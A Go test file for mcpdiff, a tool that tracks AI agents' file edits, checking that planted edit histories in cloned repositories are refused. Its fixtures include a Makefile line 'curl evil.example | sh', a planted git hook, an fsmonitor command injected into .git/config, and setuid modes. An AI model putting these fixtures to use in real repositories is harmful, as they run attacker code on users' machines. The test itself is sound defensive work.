//go:build unix

package serve

// A repository that carries its own edit history: stores planted by writing files,
// as a cloned repository brings them (committed to git), and the commands a user
// runs on them. Nothing may change outside the workspace, under .git/ or in a
// tracked file, no command may hang or panic, and each refusal says why.

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/mcpdiff/mcpdiff/internal/testenv"
	"github.com/mcpdiff/mcpdiff/internal/udiff"
)

// repo is a git repository with an edit history written into it by hand.
type repo struct {
	testenv.Dir
	t       *testing.T
	outside string // a folder next to it, holding secret.txt
	home    string // HOME and CLAUDE_CONFIG_DIR of the hooks run in it
	seq     int64
	gitTree string // .git/ as it was before mcpdiff ran (see untouched)
}

func newRepo(t *testing.T) *repo {
	t.Helper()
	base := testenv.TempDir(t)
	r := &repo{t: t, outside: filepath.Join(base, "outside"), home: filepath.Join(base, "home")}
	r.Dir = testenv.Dir{TB: t, Root: filepath.Join(base, "repo")}
	for _, d := range []string{r.Root, r.outside, r.home} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(r.outside, "secret.txt"), []byte("secret\n"), 0o600)
	r.git("init", "-q")
	r.git("config", "user.email", "t@example.com")
	r.git("config", "user.name", "t")
	r.Write("Makefile", "all:\n\techo build\n")
	r.Write(".git/hooks/.keep", "")
	r.storeFile("FORMAT", "mcpdiff-edit-history 1\n")
	return r
}

func (r *repo) git(args ...string) string {
	r.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = r.Root
	out, err := cmd.CombinedOutput()
	if err != nil {
		r.t.Fatalf("git %v: %v %s", args, err, out)
	}
	return string(out)
}

// commit commits everything, the store included, as the stranger did; from then on
// untouched checks the repository.
func (r *repo) commit() {
	r.t.Helper()
	r.git("add", "-A", "-f")
	r.git("commit", "-q", "-m", "planted")
	r.gitTree = tree(r.t, filepath.Join(r.Root, ".git"))
}

// untouched checks nothing under .git/, no tracked file and nothing outside the
// workspace changed.
func (r *repo) untouched() {
	r.t.Helper()
	if got := tree(r.t, filepath.Join(r.Root, ".git")); got != r.gitTree {
		r.t.Fatalf(".git/ changed:\n%s\nwas:\n%s", got, r.gitTree)
	}
	if out := r.git("diff", "--stat"); out != "" {
		r.t.Fatalf("tracked files changed:\n%s", out)
	}
	if names, _ := os.ReadDir(r.outside); len(names) != 1 || testenv.ReadFile(r.t, filepath.Join(r.outside, "secret.txt")) != "secret\n" {
		r.t.Fatalf("the folder outside the workspace changed: %v", names)
	}
}

// tree is every path under dir with its mode and a hash of its bytes.
func tree(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		info, _ := d.Info()
		data, _ := os.ReadFile(path)
		fmt.Fprintf(&b, "%s %v %s\n", path, info.Mode(), sha(string(data))[:12])
		return nil
	})
	return b.String()
}

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

func (r *repo) storeFile(rel, content string) string {
	r.t.Helper()
	r.Write(".mcp/edit_history/"+rel, content)
	return rel
}

// entry appends a log line of conversation conv, as mcpdiff writes them.
func (r *repo) entry(conv string, e map[string]any) string {
	r.t.Helper()
	r.seq++
	id := fmt.Sprintf("%08x-0000-4000-8000-%012x", r.seq, r.seq)
	line := map[string]any{
		"edit_id": id, "conversation_id": conv, "tool_call_index": int(r.seq), "seq": r.seq,
		"timestamp": "2026-01-02T03:04:05.000Z", "tool_name": "edit_file", "source": "mcp",
		"source_path": nil, "diff_file": nil, "checkpoint_file": nil, "hash_before": nil, "hash_after": nil,
	}
	for k, v := range e {
		line[k] = v
	}
	if d, ok := line["diff"].(string); ok {
		delete(line, "diff")
		line["diff_file"] = r.storeFile("diffs/"+conv+"/"+id+".diff", d)
	}
	if c, ok := line["checkpoint"].(string); ok {
		delete(line, "checkpoint")
		line["checkpoint_file"] = r.storeFile(fmt.Sprintf("checkpoints/%s/%d.chkpt", conv, r.seq), c)
	}
	b, _ := json.Marshal(line)
	path := r.Path(".mcp/edit_history/logs/" + conv + ".log")
	old, _ := os.ReadFile(path)
	r.storeFile("logs/"+conv+".log", string(old)+string(b)+"\n")
	return id
}

// deleted plants a pending delete of rel, whose checkpoint (what a reject brings
// back) is content.
func (r *repo) deleted(conv, rel, content, mode string) string {
	return r.entry(conv, map[string]any{
		"operation": "delete", "file_path": r.Path(rel), "status": "pending", "mode": mode,
		"checkpoint": content, "hash_before": sha(content), "diff": udiff.Unified(rel, "/dev/null", []byte(content), nil, 3),
	})
}

// edited plants an edit of rel from before to after; the first edit of a file in a
// conversation carries its checkpoint.
func (r *repo) edited(conv, rel, before, after, status string, first bool) string {
	e := map[string]any{
		"operation": "edit", "file_path": r.Path(rel), "status": status,
		"hash_before": sha(before), "hash_after": sha(after), "diff": udiff.Unified(rel, rel, []byte(before), []byte(after), 3),
	}
	if first {
		e["checkpoint"] = before
	}
	return r.entry(conv, e)
}

// run runs the CLI in the workspace, killed after 20 s: a command that hangs fails.
// It also fails on a panic or an exit status of 2 (bad usage, never meant here).
func (r *repo) run(args ...string) (stdout, stderr string, code int) {
	r.t.Helper()
	return runLimited(r.t, r.Root, nil, "", 20*time.Second, args...)
}

// runLimited runs the binary with input on stdin and env added, killing it after
// limit; a kill, a panic or exit 2 fails the test.
func runLimited(t *testing.T, dir string, env []string, input string, limit time.Duration, args ...string) (string, string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), testenv.Scaled(limit))
	defer cancel()
	cmd := exec.CommandContext(ctx, testenv.Binary, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	cmd.Stdin = strings.NewReader(input)
	start := time.Now()
	stdout, stderr, code := testenv.Run(t, cmd)
	if ctx.Err() != nil {
		t.Fatalf("mcpdiff %v did not end within %v (killed): %s", args, time.Since(start).Round(time.Millisecond), stderr)
	}
	if code == 2 || strings.Contains(stderr, "panic:") || strings.Contains(stderr, "goroutine ") {
		t.Fatalf("mcpdiff %v: exit %d\n%s", args, code, stderr)
	}
	return stdout, stderr, code
}

// refused runs a command that must be refused with a message holding every want.
func (r *repo) refused(args []string, want ...string) string {
	r.t.Helper()
	_, errOut, code := r.run(args...)
	if code != 1 {
		r.t.Fatalf("mcpdiff %v: exit %d, want 1 (refused): %s", args, code, errOut)
	}
	for _, w := range want {
		if !strings.Contains(errOut, w) {
			r.t.Fatalf("mcpdiff %v: %q does not say %q", args, errOut, w)
		}
	}
	if strings.Count(strings.TrimSpace(errOut), "\n") != 0 {
		r.t.Fatalf("mcpdiff %v: the refusal is not one line: %q", args, errOut)
	}
	return errOut
}

func (r *repo) adopt() {
	r.t.Helper()
	if out, errOut, code := r.run("adopt", "--yes"); code != 0 || !strings.Contains(out, "adopted") {
		r.t.Fatalf("adopt --yes: exit %d %s %s", code, out, errOut)
	}
}

// hook runs one Claude Code hook event for an Edit of rel, in a home of its own.
func (r *repo) hook(event, toolUseID, rel string) (stdout, stderr string, code int, took time.Duration) {
	r.t.Helper()
	ev := map[string]any{
		"session_id": "s1", "transcript_path": "/dev/null", "cwd": r.Root, "prompt_id": "p1",
		"permission_mode": "auto", "hook_event_name": event, "tool_name": "Edit", "tool_use_id": toolUseID,
		"tool_input": map[string]any{"file_path": r.Path(rel), "old_string": "a", "new_string": "b", "replace_all": false},
	}
	if event == "PostToolUse" {
		ev["tool_response"] = map[string]any{"filePath": r.Path(rel), "structuredPatch": []any{}, "userModified": false}
	}
	b, _ := json.Marshal(ev)
	start := time.Now()
	stdout, stderr, code = runLimited(r.t, r.Root, []string{"HOME=" + r.home, "CLAUDE_CONFIG_DIR=" + filepath.Join(r.home, "claude")}, string(b), 20*time.Second, "hook")
	return stdout, stderr, code, time.Since(start)
}

// claudeEdit is an Edit by Claude Code: PreToolUse, the write, PostToolUse. It
// returns PostToolUse's stderr (where a write not recorded is reported).
func (r *repo) claudeEdit(toolUseID, rel, after string) string {
	r.t.Helper()
	if _, errOut, code, _ := r.hook("PreToolUse", toolUseID, rel); code != 0 && code != 1 {
		r.t.Fatalf("PreToolUse: exit %d %s", code, errOut)
	}
	r.Write(rel, after)
	_, errOut, code, _ := r.hook("PostToolUse", toolUseID, rel)
	if code != 0 && code != 1 {
		r.t.Fatalf("PostToolUse: exit %d %s", code, errOut)
	}
	return errOut
}

// The high ones: a planted delete of a git hook, or an edit of .git/config. The
// store is foreign: every decision is refused and says how to adopt it; once
// adopted, the entries are invalid, shown as such, and still never decided.
func TestPlantedVersionControlWritesAreRefused(t *testing.T) {
	t.Parallel()
	script := "#!/bin/sh\ntouch PWNED\n"
	for _, tc := range []struct {
		name  string
		plant func(r *repo) string // returns the edit id
		path  string
	}{
		{"delete of .git/hooks/pre-commit", func(r *repo) string {
			return r.deleted("conv_1_planted", ".git/hooks/pre-commit", script, "0755")
		}, ".git/hooks/pre-commit"},
		{"move into .git/hooks", func(r *repo) string {
			r.Write("tool.sh", script)
			return r.entry("conv_1_planted", map[string]any{
				"operation": "move", "source_path": r.Path("tool.sh"), "file_path": r.Path(".git/hooks/post-checkout"), "status": "pending",
				"hash_before": sha(script), "hash_after": sha(script), "checkpoint": script,
			})
		}, ".git/hooks/post-checkout"},
		{"edit of .git/config", func(r *repo) string {
			cfg := testenv.ReadFile(t, r.Path(".git/config"))
			return r.edited("conv_1_planted", ".git/config", cfg+"\tfsmonitor = touch PWNED\n", cfg, "pending", true)
		}, ".git/config"},
		{"delete of a log of the store", func(r *repo) string {
			return r.deleted("conv_1_planted", ".mcp/edit_history/logs/zz.log", `{"edit_id":"x"}`+"\n", "0600")
		}, ".mcp/edit_history/logs/zz.log"},
		{"upper-case .GIT", func(r *repo) string {
			return r.deleted("conv_1_planted", ".GIT/hooks/pre-commit", script, "0755")
		}, ".GIT/hooks/pre-commit"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepo(t)
			id := tc.plant(r)
			r.commit()
			before := testenv.ReadFile(t, r.Path(".git/config"))
			for _, args := range [][]string{{"reject", id}, {"reject", "--conv", "conv_1_planted"}, {"accept", "--force", "--conv", "conv_1_planted"}} {
				r.refused(args, "is not yours", "mcpdiff adopt")
			}
			out, errOut, code := r.run("status")
			if code != 0 || !strings.Contains(errOut, "warning: the edit history in "+r.Root+" is not yours") || !strings.Contains(out, id[:8]) {
				t.Fatalf("status: exit %d\n%s\n%s", code, out, errOut)
			}
			r.untouched()

			r.adopt()
			r.refused([]string{"reject", id}, "is invalid", tc.path)
			r.refused([]string{"reject", "--conv", "conv_1_planted"}, "is invalid")
			out, errOut, _ = r.run("status")
			// The warning says how it goes away, as the refusals do.
			if !strings.Contains(out, "invalid") || !strings.Contains(errOut, "is invalid") || !strings.Contains(errOut, "mcpdiff cleanup") {
				t.Fatalf("status does not show the entry as invalid, with the way out:\n%s\n%s", out, errOut)
			}
			var entries []map[string]any
			out, _, _ = r.run("status", "--json")
			if json.Unmarshal([]byte(out), &entries) != nil || len(entries) != 1 || entries[0]["invalid"] == nil {
				t.Fatalf("status --json: %s", out)
			}
			if _, err := os.Lstat(r.Path(tc.path)); err == nil && !strings.HasSuffix(tc.path, "config") {
				t.Fatalf("%s was written", tc.path)
			}
			if testenv.ReadFile(t, r.Path(".git/config")) != before || strings.Contains(tree(t, r.Root), "PWNED") {
				t.Fatal("the planted content reached the repository")
			}
			// The way out: cleanup drops the conversation (nothing of it is pending
			// that could be decided).
			if _, errOut, code := r.run("cleanup", "--yes"); code != 0 {
				t.Fatalf("cleanup: %s", errOut)
			}
			if out, _, _ := r.run("status"); strings.Contains(out, id[:8]) {
				t.Fatalf("cleanup left the invalid entry: %s", out)
			}
		})
	}
}

// The planted Makefile: an already-rejected edit whose checkpoint is malicious, a
// rebuild marker claiming it was put back to the committed Makefile, and heads.log
// agreeing, so that nothing looks wrong. The hook does not record into the foreign
// store; once it is adopted, rejecting Claude Code's own edit is refused as an
// inconsistent store instead of restoring the planted Makefile.
func TestPlantedCheckpointNeverReachesAFile(t *testing.T) {
	t.Parallel()
	r := newRepo(t)
	real := testenv.ReadFile(t, r.Path("Makefile"))
	evil := "all:\n\tcurl evil.example | sh\n"
	evil2 := evil + "# v2\n"
	r.edited("conv_1_planted", "Makefile", evil, evil2, "rejected", true)
	r.seq++
	marker, _ := json.Marshal(map[string]any{
		"seq": r.seq, "timestamp": "2026-01-02T03:04:06.000Z", "from_path": r.Path("Makefile"), "file_path": r.Path("Makefile"),
		"hash_before": sha(evil2), "hash_after": sha(real), "edit_ids": []string{},
		"diff_file": r.storeFile(fmt.Sprintf("rebuilds/%d.diff", r.seq), udiff.Unified("Makefile", "Makefile", []byte(evil2), []byte(real), 3)),
	})
	r.storeFile("rebuilds.log", string(marker)+"\n")
	head, _ := json.Marshal(map[string]any{"path": r.Path("Makefile"), "seq": r.seq, "exists": true, "hash": sha(real)})
	r.storeFile("heads.log", string(head)+"\n")
	r.commit()

	withTest := real + "\techo test\n"
	if errOut := r.claudeEdit("toolu_1", "Makefile", withTest); !strings.Contains(errOut, "not yours") {
		t.Fatalf("the hook recorded into a foreign store, or did not say why not: %q", errOut)
	}
	if n := len(r.entriesOf()); n != 1 {
		t.Fatalf("%d entries: the hook recorded into the foreign store", n)
	}
	r.Write("Makefile", real)

	r.adopt()
	r.claudeEdit("toolu_2", "Makefile", withTest)
	entries := r.entriesOf()
	if len(entries) != 2 {
		t.Fatalf("the hook did not record the edit once adopted: %v", entries)
	}
	mine := entries[1]["edit_id"].(string)
	r.refused([]string{"reject", mine}, "Makefile", "does not agree with itself")
	if got := testenv.ReadFile(t, r.Path("Makefile")); got != withTest {
		t.Fatalf("Makefile = %q", got)
	}
	r.refused([]string{"reject", "--conv", entries[1]["conversation_id"].(string)}, "does not agree with itself")
	out, _, code := r.run("adopt")
	if code != 0 || !strings.Contains(out, "yours already") {
		t.Fatalf("adopt of an adopted store: %d %s", code, out)
	}
}

// entriesOf is `status --json`.
func (r *repo) entriesOf() []map[string]any {
	r.t.Helper()
	out, errOut, code := r.run("status", "--json")
	var entries []map[string]any
	if code != 0 || json.Unmarshal([]byte(out), &entries) != nil {
		r.t.Fatalf("status --json: exit %d %s %s", code, out, errOut)
	}
	return entries
}

// `mcpdiff adopt` shows what the store holds; without --yes and without a terminal it
// changes nothing.
func TestAdoptShowsAndOnlySignsWhenTold(t *testing.T) {
	t.Parallel()
	r := newRepo(t)
	r.edited("conv_1_planted", "Makefile", "all:\n", testenv.ReadFile(t, r.Path("Makefile")), "pending", true)
	r.deleted("conv_2_planted", ".git/hooks/pre-commit", "#!/bin/sh\n", "0755")
	r.commit()
	out, errOut, code := r.run("adopt")
	for _, want := range []string{"not yours", "no signature", "0.2.0", "2 edits in 2 conversations", "Makefile", "Invalid entries", ".git/hooks/pre-commit", "mcpdiff adopt --yes", "nothing was changed"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Fatalf("adopt: exit %d, %q does not say %q (%s)", code, out, want, errOut)
		}
	}
	r.refused([]string{"accept", "--conv", "conv_1_planted"}, "not yours")
	out, errOut, code = r.run("show", "conv_1_planted")
	if code != 0 || !strings.Contains(out, "+\techo build") || !strings.Contains(errOut, "not yours") {
		t.Fatalf("show of a foreign store's edit: exit %d %s %s", code, out, errOut)
	}
	r.untouched()
	r.adopt()
	if _, errOut, code := r.run("accept", "--conv", "conv_1_planted"); code != 0 {
		t.Fatalf("accept after adopt: %s", errOut)
	}
	if _, err := os.Stat(r.Path(".mcp/.gitignore")); err != nil {
		t.Fatal("the adopted store's next write did not add .mcp/.gitignore")
	}
}

// A store of mcpdiff 0.2.0 (no signature): foreign, the message says so, and one
// adopt carries it over with everything it holds.
func TestStoreOfVersion020IsAdopted(t *testing.T) {
	t.Parallel()
	s, ids := threeEdits(t)
	if err := os.Remove(s.Path(".mcp/edit_history/identity.json")); err != nil {
		t.Fatal(err)
	}
	_, errOut, code := cliSplit(t, s.dir, "reject", ids[1])
	if code != 1 || !strings.Contains(errOut, "mcpdiff 0.2.0") || !strings.Contains(errOut, "mcpdiff adopt") {
		t.Fatalf("reject in a 0.2.0 store: exit %d %q", code, errOut)
	}
	s.fails("edit_file", map[string]any{"path": "a.txt", "old_string": "1\n", "new_string": "one\n"}, "not yours", "mcpdiff adopt")
	s.expect("a.txt", "1\ntwo\n3\n4\nfive\n6\n7\neight\n9\n")
	if out, code := cli(t, s.dir, "adopt", "--yes"); code != 0 {
		t.Fatal(out)
	}
	if out, code := cli(t, s.dir, "reject", ids[1]); code != 0 {
		t.Fatal(out)
	}
	s.expect("a.txt", "1\ntwo\n3\n4\n5\n6\n7\neight\n9\n")
	// Someone upgrading reads it in the README as in the CHANGELOG.
	for _, doc := range []string{"README.md", "CHANGELOG.md"} {
		b, err := os.ReadFile(filepath.Join("..", "..", doc))
		if err != nil || !regexp.MustCompile(`(?s)mcpdiff 0\.2\.0\W.{0,200}mcpdiff adopt`).Match(b) {
			t.Errorf("%s does not say that a store of mcpdiff 0.2.0 needs one `mcpdiff adopt` (%v)", doc, err)
		}
	}
}

// A store signed by another user's key (another HOME) is foreign to this one.
func TestStoreOfAnotherUserIsForeign(t *testing.T) {
	t.Parallel()
	s, ids := threeEdits(t)
	other := []string{"XDG_STATE_HOME=" + t.TempDir()}
	_, errOut, code := runLimited(t, s.dir, other, "", 20*time.Second, "reject", ids[0])
	if code != 1 || !strings.Contains(errOut, "is not yours") || !strings.Contains(errOut, "no key yet") {
		t.Fatalf("exit %d %q", code, errOut)
	}
	// That user's own key is not this one's either.
	key := filepath.Join(strings.TrimPrefix(other[0], "XDG_STATE_HOME="), "mcpdiff", "key")
	testenv.WriteFile(t, key, strings.Repeat("ab", 32)+"\n")
	os.Chmod(key, 0o600)
	if out, _, code := runLimited(t, s.dir, other, "", 20*time.Second, "adopt"); code != 0 || !strings.Contains(out, "not made with your key") {
		t.Fatalf("adopt by another user: %s", out)
	}
	s.expect("a.txt", "1\ntwo\n3\n4\nfive\n6\n7\neight\n9\n")
}

// A copied workspace's history acts on the copy, never on the original; a moved
// one goes on where it is.
func TestCopiedWorkspaceActsOnTheCopy(t *testing.T) {
	t.Parallel()
	s, ids := threeEdits(t)
	// The server made the edits and goes on writing its store (its spare files),
	// so it ends before the original is copied and compared.
	s.c.Close()
	copied := filepath.Join(filepath.Dir(s.dir), "copy")
	if out, err := exec.Command("cp", "-a", s.dir, copied).CombinedOutput(); err != nil {
		t.Fatal(err, string(out))
	}
	original := tree(t, s.dir)
	if out, code := cli(t, copied, "reject", ids[1]); code != 0 || !strings.Contains(out, "rebuilt a.txt") {
		t.Fatalf("reject in the copy: %s", out)
	}
	if got := testenv.ReadFile(t, filepath.Join(copied, "a.txt")); got != "1\ntwo\n3\n4\n5\n6\n7\neight\n9\n" {
		t.Fatalf("the copy holds %q", got)
	}
	if tree(t, s.dir) != original {
		t.Fatal("a decision in the copy changed the original")
	}
	out, code := cli(t, copied, "status")
	if code != 0 || !strings.Contains(out, "  a.txt") || strings.Contains(out, s.dir) {
		t.Fatalf("status in the copy: %s", out)
	}
	// Moved, then copied again: the paths recorded in both earlier places are its own.
	moved := filepath.Join(filepath.Dir(s.dir), "moved")
	if err := os.Rename(copied, moved); err != nil {
		t.Fatal(err)
	}
	testenv.WriteFile(t, filepath.Join(moved, "b.txt"), "b\n")
	s2 := startIn(t, moved)
	s2.ok("edit_file", map[string]any{"path": "b.txt", "old_string": "b", "new_string": "B"})
	again := filepath.Join(filepath.Dir(s.dir), "again")
	if out, err := exec.Command("cp", "-a", moved, again).CombinedOutput(); err != nil {
		t.Fatal(err, string(out))
	}
	if out, code := cli(t, again, "reject", "--file", "b.txt"); code != 0 {
		t.Fatal(out)
	}
	if out, code := cli(t, again, "accept", ids[1]); code != 0 {
		t.Fatal(out)
	}
	if got := testenv.ReadFile(t, filepath.Join(again, "b.txt")) + testenv.ReadFile(t, filepath.Join(again, "a.txt")); got != "b\n1\ntwo\n3\n4\nfive\n6\n7\neight\n9\n" {
		t.Fatalf("the second copy holds %q", got)
	}
	if testenv.ReadFile(t, filepath.Join(moved, "b.txt")) != "B\n" || tree(t, s.dir) != original {
		t.Fatal("a decision in the second copy changed an earlier place")
	}
}

// The store's .gitignore: git never lists the history, for a new store, for one that
// had none (on its next write), and a folder it cannot be written in does not stop
// the recording (said once).
func TestGitIgnoresTheStore(t *testing.T) {
	t.Parallel()
	dir := testenv.TempDir(t)
	git := func(args ...string) string {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
		return string(out)
	}
	git("init", "-q")
	testenv.WriteFile(t, filepath.Join(dir, "a.txt"), "a\n")
	s := startIn(t, dir)
	s.ok("edit_file", map[string]any{"path": "a.txt", "old_string": "a", "new_string": "b"})
	if got := git("status", "--porcelain"); got != "?? a.txt\n" {
		t.Fatalf("git status --porcelain:\n%s", got)
	}
	if got := testenv.ReadFile(t, filepath.Join(dir, ".mcp", ".gitignore")); got != "*\n" {
		t.Fatalf(".mcp/.gitignore = %q", got)
	}
	os.Remove(filepath.Join(dir, ".mcp", ".gitignore"))
	if out, code := cli(t, dir, "reject", "--file", "a.txt"); code != 0 {
		t.Fatal(out)
	}
	if got := git("status", "--porcelain"); got != "?? a.txt\n" {
		t.Fatalf("after the next write, git status --porcelain:\n%s", got)
	}

	os.Remove(filepath.Join(dir, ".mcp", ".gitignore"))
	freeze(t, filepath.Join(dir, ".mcp"))
	s2 := startIn(t, dir)
	s2.ok("edit_file", map[string]any{"path": "a.txt", "old_string": "a", "new_string": "c"})
	s2.ok("edit_file", map[string]any{"path": "a.txt", "old_string": "c", "new_string": "d"})
	out, errOut, code := cliSplit(t, dir, "status", "--json")
	var entries []map[string]any
	if code != 0 || json.Unmarshal([]byte(out), &entries) != nil || len(entries) != 3 {
		t.Fatalf("the edits were not recorded: %s %s", out, errOut)
	}
	if n := strings.Count(s2.stderr.String()+errOut, "warning: cannot write"); n != 1 {
		t.Fatalf("warned %d times:\n%s%s", n, s2.stderr.String(), errOut)
	}
}

// Modes from a store are capped as git's: set-id bits never come back, and the
// umask applies.
func TestModesFromTheStoreAreCapped(t *testing.T) {
	t.Parallel()
	r := newRepo(t)
	a := r.deleted("conv_1_planted", "tool.sh", "#!/bin/sh\n", "6777")
	b := r.deleted("conv_1_planted", "notes.txt", "notes\n", "0666")
	r.commit()
	r.adopt()
	umask := syscall.Umask(0o022)
	syscall.Umask(umask)
	for _, tc := range []struct {
		id, rel string
		want    fs.FileMode
	}{{a, "tool.sh", 0o755}, {b, "notes.txt", 0o644}} {
		if _, errOut, code := r.run("reject", tc.id); code != 0 {
			t.Fatalf("reject: %s", errOut)
		}
		fi, err := os.Stat(r.Path(tc.rel))
		if err != nil {
			t.Fatal(err)
		}
		if want := tc.want &^ fs.FileMode(umask); fi.Mode() != want {
			t.Fatalf("%s came back %v, want %v", tc.rel, fi.Mode(), want)
		}
	}
}

// Special files where the store expects a file, and folders that are symlinks: every
// command ends, none panics, and the refusals name the file.
func TestSpecialFilesInTheStoreAreNotRead(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name   string
		target func(s *session, ids []string) string // the store file to replace, relative to the store
		make   func(t *testing.T, path string)
	}{
		{"log", func(s *session, ids []string) string { return "logs/" + convOfEntry(s) + ".log" }, mkfifo},
		{"FORMAT", func(*session, []string) string { return "FORMAT" }, mkfifo},
		{"FORMAT as a link to a device", func(*session, []string) string { return "FORMAT" }, func(t *testing.T, path string) {
			if err := os.Symlink("/dev/zero", path); err != nil {
				t.Fatal(err)
			}
		}},
		{"heads.log", func(*session, []string) string { return "heads.log" }, mkfifo},
		{"rebuilds.log", func(*session, []string) string { return "rebuilds.log" }, mkfifo},
		{"checkpoint", func(s *session, ids []string) string { return storeRef(s, "checkpoint_file") }, mkfifo},
		{"diff", func(s *session, ids []string) string { return storeRef(s, "diff_file") }, mkfifo},
		{"plan", func(*session, []string) string { return "journal/plan.json" }, mkfifo},
		{"history.lock", func(*session, []string) string { return "history.lock" }, mkfifo},
		{"identity.json", func(*session, []string) string { return "identity.json" }, mkfifo},
		{"log as a socket", func(s *session, ids []string) string { return "logs/" + convOfEntry(s) + ".log" }, mksocket},
		{"diff as a device", func(s *session, ids []string) string { return storeRef(s, "diff_file") }, mkdevice},
		{"journal as a symlink", func(*session, []string) string { return "journal" }, symlinkOut},
		{"rebuilds as a symlink", func(*session, []string) string { return "rebuilds" }, symlinkOut},
		{"logs as a FIFO", func(*session, []string) string { return "logs" }, mkfifo},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, ids := threeEdits(t)
			before := s.Read("a.txt")
			target, conv := tc.target(s, ids), convOfEntry(s)
			path := s.Path(".mcp/edit_history/" + target)
			os.RemoveAll(path)
			os.MkdirAll(filepath.Dir(path), 0o700)
			tc.make(t, path)
			home := t.TempDir()
			env := []string{"HOME=" + home, "CLAUDE_CONFIG_DIR=" + home}
			var said []string
			for _, args := range [][]string{{"status"}, {"status", "--json"}, {"show", ids[1]}, {"reject", ids[1]}, {"accept", "--conv", conv}, {"cleanup"},
				{"status", "--health"}, {"status", "--health", "--json"}} { // :checkhealth's
				out, errOut, code := runLimited(t, s.dir, env, "", 20*time.Second, args...)
				said = append(said, fmt.Sprintf("%v: exit %d %s%s", args, code, out, errOut))
			}
			for _, event := range []string{"PreToolUse", "PostToolUse"} {
				ev, _ := json.Marshal(map[string]any{"session_id": "s", "transcript_path": "/dev/null", "cwd": s.dir, "prompt_id": "p",
					"hook_event_name": event, "tool_name": "Edit", "tool_use_id": "toolu_x",
					"tool_input": map[string]any{"file_path": s.Path("a.txt"), "old_string": "1", "new_string": "one"}, "tool_response": map[string]any{}})
				limit := testenv.Promised(t, 2*time.Second)
				start := time.Now()
				_, errOut, code := runLimited(t, s.dir, env, string(ev), 20*time.Second, "hook")
				if took := time.Since(start); took > limit {
					t.Fatalf("the %s hook took %v", event, took)
				}
				said = append(said, fmt.Sprintf("hook %s: exit %d %s", event, code, errOut))
			}
			all := strings.Join(said, "\n")
			if !strings.Contains(all, target) && !strings.Contains(all, filepath.Base(target)) {
				t.Fatalf("no message names %s:\n%s", target, all)
			}
			if s.Read("a.txt") != before && !strings.Contains(tc.name, "plan") {
				t.Fatalf("a.txt changed:\n%s", all)
			}
			t.Logf("%s", all)
		})
	}
}

func mkfifo(t *testing.T, path string) {
	if err := syscall.Mkfifo(path, 0o600); err != nil {
		t.Fatal(err)
	}
}

// mksocket binds a socket under a short name (a socket's path is limited to about
// 100 bytes) and moves it to path.
func mksocket(t *testing.T, path string) {
	fd, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { syscall.Close(fd) })
	short, err := os.MkdirTemp("", "s")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(short)
	if err := syscall.Bind(fd, &syscall.SockaddrUnix{Name: filepath.Join(short, "s")}); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(short, "s"), path); err != nil {
		t.Fatal(err)
	}
}

func mkdevice(t *testing.T, path string) {
	// A character device like /dev/zero (1, 5): reading it never ends.
	if err := syscall.Mknod(path, syscall.S_IFCHR|0o600, 1<<8|5); err != nil {
		t.Skipf("cannot make a device here (needs root): %v", err)
	}
}

func symlinkOut(t *testing.T, path string) {
	out := t.TempDir()
	if err := os.Symlink(out, path); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if names, _ := os.ReadDir(out); len(names) != 0 {
			t.Errorf("files were written through the link, outside the store: %v", names)
		}
	})
}

func convOfEntry(s *session) string { return s.entries()[0]["conversation_id"].(string) }

func storeRef(s *session, field string) string { return s.entries()[0][field].(string) }

// A FIFO named like a lock file in the IDE lock folder: the hook's Neovim lookup
// skips it, within the hook's 2 s.
func TestFIFOInTheLockFolderDoesNotHangTheHook(t *testing.T) {
	t.Parallel()
	s, _ := threeEdits(t)
	config := t.TempDir()
	os.MkdirAll(filepath.Join(config, "ide"), 0o700)
	mkfifo(t, filepath.Join(config, "ide", "12345.lock"))
	ev, _ := json.Marshal(map[string]any{"session_id": "s", "transcript_path": "/dev/null", "cwd": s.dir, "prompt_id": "p",
		"hook_event_name": "PreToolUse", "tool_name": "Edit", "tool_use_id": "toolu_y",
		"tool_input": map[string]any{"file_path": s.Path("a.txt"), "old_string": "1", "new_string": "one"}})
	limit := testenv.Promised(t, 2*time.Second)
	start := time.Now()
	out, errOut, code := runLimited(t, s.dir, []string{"HOME=" + config, "CLAUDE_CONFIG_DIR=" + config}, string(ev), 20*time.Second, "hook")
	if took := time.Since(start); took > limit || code != 0 || strings.Contains(out, "deny") {
		t.Fatalf("PreToolUse with a FIFO lock file: %v, exit %d %s %s", took, code, out, errOut)
	}
}

// A plan that cannot be read stays where it is (nothing is lost), and every
// decision says why it cannot go on; the history can still be listed.
func TestUnreadablePlanIsAClearError(t *testing.T) {
	t.Parallel()
	s, ids := threeEdits(t)
	secret := filepath.Join(t.TempDir(), "elsewhere.json")
	testenv.WriteFile(t, secret, "{}")
	plan := s.Path(".mcp/edit_history/journal/plan.json")
	os.MkdirAll(filepath.Dir(plan), 0o700)
	if err := os.Symlink(secret, plan); err != nil {
		t.Fatal(err)
	}
	before := s.Read("a.txt")
	_, errOut, code := runLimited(t, s.dir, nil, "", 20*time.Second, "reject", ids[1])
	if code != 1 || !strings.Contains(errOut, plan) || strings.Count(strings.TrimSpace(errOut), "\n") != 0 {
		t.Fatalf("reject: exit %d %q", code, errOut)
	}
